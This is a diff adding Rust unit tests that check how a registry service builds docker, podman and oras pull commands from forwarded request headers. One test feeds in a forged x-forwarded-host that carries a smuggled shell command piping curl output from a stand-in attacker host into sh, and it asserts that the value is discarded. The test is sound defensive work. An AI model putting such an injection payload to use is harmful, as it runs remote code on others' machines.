@@ -75,6 +75,38 @@ mod tests {
             proxied["podman"],
             format!("podman pull --tls-verify=false {target}")
         );
+        // A forwarded host that is not a host name is passed over for the next source: its
+        // text would land in a shell command line.
+        let forged = pull_commands(
+            &parts(&[
+                ("host", "registry.example:5000"),
+                (
+                    "x-forwarded-host",
+                    "evil.example/x; curl -s http://evil.example | sh #",
+                ),
+                ("x-forwarded-proto", "javascript"),
+            ]),
+            &repo,
+            &digest,
+        );
+        assert_eq!(
+            forged["oras"],
+            format!("oras pull --plain-http registry.example:5000/library/alpine@{digest}")
+        );
+        let chained = pull_commands(
+            &parts(&[("x-forwarded-host", "first.example, proxy.internal")]),
+            &repo,
+            &digest,
+        );
+        assert_eq!(
+            chained["docker"],
+            format!("docker pull first.example/library/alpine@{digest}")
+        );
+        let nothing_usable = pull_commands(&parts(&[("host", "a b")]), &repo, &digest);
+        assert_eq!(
+            nothing_usable["docker"],
+            format!("docker pull localhost/library/alpine@{digest}")
+        );
         let plain = pull_commands(&parts(&[("host", "localhost:5000")]), &repo, &digest);
         assert_eq!(
             plain["docker"],
